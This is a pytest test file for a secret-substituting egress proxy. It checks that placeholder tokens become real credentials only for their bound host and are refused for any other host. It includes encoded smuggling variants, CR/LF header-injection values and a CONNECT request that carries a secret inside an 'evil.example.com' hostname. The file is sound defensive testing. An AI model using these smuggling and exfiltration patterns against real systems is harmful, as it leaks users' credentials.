"""Secrets: code writes placeholders, their hosts get values, nobody else gets either, no answer shows one."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from pythonic_assistant.adapters.egress.means import DEFAULT_LIMITS
from pythonic_assistant.adapters.egress.scrub import Scrubber
from pythonic_assistant.adapters.egress.vault import Vault
from pythonic_assistant.domain.redaction import Redactor
from pythonic_assistant.domain.secret import BoundSecret
from tests.egress.conftest import API, GITHUB, OTHER, PLAIN, VALUE, World

MARK = GITHUB.placeholder
SHORT_LIMITS = replace(DEFAULT_LIMITS, buffered_bytes=1000)


def body_of(answer: bytes) -> bytes:
    return answer.partition(b"\r\n\r\n")[2]


async def test_a_header_gets_the_value_and_the_code_sees_the_placeholder(world: World) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    answer = await proxy.ask("/", f"Authorization: Bearer {MARK}")
    assert world.api.heard[0]["authorization"] == f"Bearer {VALUE}"
    assert f"Bearer {MARK}".encode() in answer
    assert not Redactor({VALUE: "x"}).found_in(answer)
    (event,) = await proxy.reported(1)
    assert event.secrets == ("GITHUB_TOKEN",) and event.outcome == "allowed"
    assert VALUE not in repr(event) and MARK not in repr(event)


async def test_basic_authorization_gets_the_value_inside(world: World) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    pair = base64.b64encode(f"me:{MARK}".encode()).decode()
    answer = await proxy.ask("/", f"Authorization: Basic {pair}")
    sent = world.api.heard[0]["authorization"].removeprefix("Basic ")
    assert base64.b64decode(sent).decode() == f"me:{VALUE}"
    assert not Redactor({VALUE: "x"}).found_in(answer)
    assert sent.encode() not in answer


async def test_path_and_query_get_the_value_percent_encoded(world: World) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    await proxy.ask(f"/bot{MARK}/send?token={MARK}&a=b")
    target = urlsplit(world.api.heard[0].target)
    assert target.path == f"/bot{quote(VALUE, safe='')}/send"
    assert parse_qs(target.query) == {"token": [VALUE], "a": ["b"]}


@pytest.mark.parametrize(
    ("content_type", "written", "read"),
    [
        ("application/json", '{"t": "%s"}', lambda body: json.loads(body)["t"]),
        ("application/vnd.api+json; charset=utf-8", '{"t": "%s"}', lambda body: json.loads(body)["t"]),
        ("application/x-www-form-urlencoded", "t=%s&u=1", lambda body: parse_qs(body.decode())["t"][0]),
        ("text/plain", "t %s", lambda body: body.decode()[2:]),
    ],
)
async def test_a_body_gets_the_value_as_its_kind_wants_it(
    world: World, content_type: str, written: str, read: Any
) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    await proxy.ask("/", f"Content-Type: {content_type}", body=(written % MARK).encode(), method="POST")
    heard = world.api.heard[0]
    assert read(heard.body) == VALUE
    assert heard["content-length"] == str(len(heard.body))


async def test_a_chunked_body_gets_the_value_across_its_pieces(world: World) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    half = len(MARK) // 2
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(part), part.encode()) for part in (MARK[:half], MARK[half:]))
    await proxy.raw(
        f"POST / HTTP/1.1\r\nHost: {API}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n".encode()
        + chunks
        + b"0\r\n\r\n",
        tunnel=API,
    )
    assert world.api.heard[0].body.decode() == VALUE


@pytest.mark.parametrize("chunked", [False, True])
async def test_a_body_beyond_the_buffer_passes_as_it_is(world: World, chunked: bool) -> None:
    proxy = await world.proxy(secrets=[GITHUB], limits=SHORT_LIMITS)
    body = (MARK + "." * 2000 + MARK).encode()
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}"
    sent = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) if chunked else body
    head = f"POST / HTTP/1.1\r\nHost: {API}\r\n{framing}\r\nConnection: close\r\n\r\n"
    await proxy.raw(head.encode() + sent, tunnel=API)
    assert world.api.heard[0].body == body
    assert (await proxy.reported(1))[0].secrets == ()


SPELLINGS = [
    MARK,
    f"x{MARK}y",
    "".join(f"%{ord(letter):02x}" for letter in MARK),
    base64.b64encode(MARK.encode()).decode(),
    base64.b64encode(b"me:" + MARK.encode()).decode(),
    base64.urlsafe_b64encode(b"ab" + MARK.encode()).decode(),
    MARK.encode().hex(),
]


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("place", ["path", "query", "header", "body", "stream"])
async def test_a_placeholder_for_another_host_is_refused_and_told(
    world: World, spelling: str, place: str
) -> None:
    proxy = await world.proxy(secrets=[GITHUB], limits=SHORT_LIMITS if place == "stream" else DEFAULT_LIMITS)
    target = {"path": f"/{spelling}", "query": f"/?q={spelling}"}.get(place, "/")
    headers = [f"X-A: {spelling}"] if place == "header" else []
    body = b""
    if place in ("body", "stream"):
        body = ("." * (200_000 if place == "stream" else 1) + spelling).encode()
    answer = await proxy.ask(target, *headers, host=OTHER, body=body, method="POST")
    assert b" 403 " in answer.partition(b"\r\n")[0]
    assert b"GITHUB_TOKEN is not for other.example.net: it may be sent to api.example.org only" in answer
    assert place == "stream" or not world.other.heard
    assert not any(spelling.encode() in heard.body for heard in world.other.heard)
    (event,) = await proxy.reported(1)
    assert event.outcome == "refused" and "GITHUB_TOKEN" in event.reason and MARK not in repr(event)


@pytest.mark.parametrize("at", [(1 << 20) - 20, (2 << 20) - 1, 3 << 20])
async def test_a_placeholder_is_found_wherever_a_large_body_hides_it(world: World, at: int) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    body = b"." * at + MARK.encode() + b"." * (1 << 20)
    answer = await proxy.ask("/", host=OTHER, body=body, method="POST")
    assert b" 403 " in answer.partition(b"\r\n")[0]
    assert not world.other.heard


async def test_the_value_itself_for_another_host_is_refused_too(world: World) -> None:
    raw = replace(GITHUB, raw=True)
    proxy = await world.proxy(secrets=[raw])
    for spelling in (VALUE, quote(VALUE), base64.b64encode(VALUE.encode()).decode()):
        answer = await proxy.ask("/", host=OTHER, body=f"t={spelling}".encode(), method="POST")
        assert b" 403 " in answer.partition(b"\r\n")[0]
    assert not world.other.heard
    assert VALUE not in repr(await proxy.reported(3))


async def test_a_raw_secret_goes_to_its_own_host_as_the_code_wrote_it(world: World) -> None:
    proxy = await world.proxy(secrets=[replace(GITHUB, raw=True)])
    await proxy.ask("/", f"Authorization: Bearer {VALUE}", f"X-Mark: {MARK}")
    assert world.api.heard[0]["authorization"] == f"Bearer {VALUE}"
    assert world.api.heard[0]["x-mark"] == MARK


async def test_parts_of_a_placeholder_are_worth_nothing_anywhere(world: World) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    half = len(MARK) // 2
    answer = await proxy.ask(f"/{MARK[:half]}", f"X-A: {MARK[half:]}", host=OTHER)
    assert answer.startswith(b"HTTP/1.1 200")
    assert VALUE not in repr(world.other.heard)
    await proxy.ask(f"/{MARK[:half]}", f"X-A: {MARK[half:]}")
    assert VALUE not in repr(world.api.heard)


async def test_secrets_go_over_plain_http_only_where_the_operator_leads(world: World) -> None:
    bound = replace(GITHUB, hosts=(API, PLAIN))

    async def resolve(host: str, port: int) -> list[str]:
        raise AssertionError("a refused request is not resolved")

    unrouted = await world.proxy(secrets=[bound], routes=[], resolve=resolve)
    request = f"GET http://{PLAIN}/?t={MARK} HTTP/1.1\r\nHost: {PLAIN}\r\nConnection: close\r\n\r\n".encode()
    answer = await unrouted.raw(request)
    assert b" 403 " in answer and b"use https://plain.example.org" in answer
    routed = await world.proxy(secrets=[bound])
    assert (await routed.raw(request)).startswith(b"HTTP/1.1 200")
    assert parse_qs(urlsplit(world.plain.heard[0].target).query)["t"] == [VALUE]


@pytest.mark.parametrize("at", [(1 << 20) - 20, (2 << 20) - 1])
async def test_no_place_in_a_large_body_lets_a_secret_go_over_plain_http(world: World, at: int) -> None:
    async def resolve(host: str, port: int) -> list[str]:
        raise AssertionError("a refused request is not resolved")

    proxy = await world.proxy(secrets=[replace(GITHUB, hosts=(PLAIN,))], routes=[], resolve=resolve)
    body = b"." * at + MARK.encode() + b"." * (1 << 20)
    head = f"POST http://{PLAIN}/ HTTP/1.1\r\nHost: {PLAIN}\r\nContent-Length: {len(body)}\r\n\r\n"
    answer = await proxy.raw(head.encode() + body)
    assert b" 403 " in answer and b"use https://plain.example.org" in answer


@pytest.mark.parametrize("value", ["line\r\nX-Injected: 1", "line\nbreak", "nul\0nul"])
async def test_values_that_would_break_out_of_a_header_are_refused(world: World, value: str) -> None:
    proxy = await world.proxy(secrets=[replace(GITHUB, value=value)])
    for request in (("/", f"X-A: {MARK}"), (f"/{MARK}",)):
        answer = await proxy.ask(*request)
        assert b" 403 " in answer and b"line break" in answer
    assert not world.api.heard
    await proxy.ask("/", "Content-Type: application/json", body=f'"{MARK}"'.encode(), method="POST")
    assert json.loads(world.api.heard[0].body) == value


async def test_a_value_with_spaces_at_its_ends_is_refused_in_a_header(world: World) -> None:
    proxy = await world.proxy(secrets=[replace(GITHUB, value="with a space at the end ")])
    answer = await proxy.ask("/", f"X-A: {MARK}")
    assert b" 403 " in answer and not world.api.heard


@pytest.mark.parametrize(
    "path",
    ["/secret", "/secret-in-pieces", "/secret-gzip", "/secret-deflate?zlib=1", "/secret-deflate"],
)
@pytest.mark.parametrize("host", [API, OTHER])
async def test_no_answer_shows_a_value_however_it_comes(world: World, path: str, host: str) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    world.api.secret = world.other.secret = VALUE
    answer = await proxy.ask(path, "Accept-Encoding: gzip, br", host=host)
    heard = (world.api if host == API else world.other).heard[0]
    assert heard["accept-encoding"] == "identity"
    assert answer.startswith(b"HTTP/1.1 200") and MARK.encode() in body_of(answer)
    assert not Redactor({VALUE: "x"}).found_in(answer)
    assert b"content-encoding" not in answer.lower()


async def test_with_a_secret_only_whole_answers_are_asked_for(world: World) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    await proxy.ask("/", "Range: bytes=3-9", 'If-Range: "x"', f"X-A: {MARK}")
    await proxy.ask("/", "Range: bytes=3-9")
    with_secret, without = world.api.heard
    assert "range" not in with_secret and "if-range" not in with_secret
    assert without["range"] == "bytes=3-9"


@pytest.mark.parametrize("path", ["/secret-brotli", "/cut-gzip"])
async def test_an_answer_that_cannot_be_searched_is_not_passed_on(world: World, path: str) -> None:
    proxy = await world.proxy(secrets=[GITHUB])
    world.api.secret = VALUE
    answer = await proxy.ask(path)
    assert VALUE.encode() not in answer and not answer.endswith(b"0\r\n\r\n")
    assert (await proxy.reported(1))[0].outcome == "failed"


async def test_without_secrets_a_compressed_answer_passes_untouched(world: World) -> None:
    proxy = await world.proxy()
    world.api.secret = VALUE
    answer = await proxy.ask("/secret-gzip", "Accept-Encoding: gzip")
    assert b"content-encoding: gzip" in answer.lower() and b"\x1f\x8b" in answer
    assert world.api.heard[0]["accept-encoding"] == "gzip"


async def test_two_proxies_do_not_swap_each_others_placeholders(world: World) -> None:
    other = BoundSecret(
        name="T", value="another-value", hosts=(API,), placeholder="PLACEHOLDER_T_fedcba9876543210"
    )
    first, second = await world.proxy(secrets=[GITHUB]), await world.proxy(secrets=[other])
    await first.ask("/", f"X-A: {other.placeholder}")
    await second.ask("/", f"X-A: {MARK}")
    assert [heard["x-a"] for heard in world.api.heard] == [other.placeholder, MARK]


async def test_a_secret_as_the_name_of_a_host_is_not_told(world: World) -> None:
    value = "abcdef0123456789"
    proxy = await world.proxy(secrets=[replace(GITHUB, value=value, raw=True)])
    await proxy.raw(f"CONNECT {value}.evil.example.com:443 HTTP/1.1\r\nHost: x.y\r\n\r\n".encode())
    assert value not in repr(await proxy.reported(1))


@pytest.mark.parametrize("size", [1, 7, 9, 10, 100])
def test_a_value_that_begins_like_another_one_is_cut_out_to_its_end(size: int) -> None:
    short = replace(GITHUB, name="A", value="sk-abcdef", placeholder="PLACEHOLDER_A_0")
    long = replace(GITHUB, name="B", value="sk-abcdef-and-more", placeholder="PLACEHOLDER_B_0")
    vault = Vault([short, long])
    scrubber = Scrubber(vault.redactor, vault.words)
    text = b"1 sk-abcdef-and-more 2 sk-abcdef 3 sk-abcdef-and-"
    pieces = [scrubber.feed(text[at : at + size]) for at in range(0, len(text), size)]
    answer = b"".join([*pieces, scrubber.finish()])
    assert answer == b"1 PLACEHOLDER_B_0 2 PLACEHOLDER_A_0 3 PLACEHOLDER_A_0-and-"
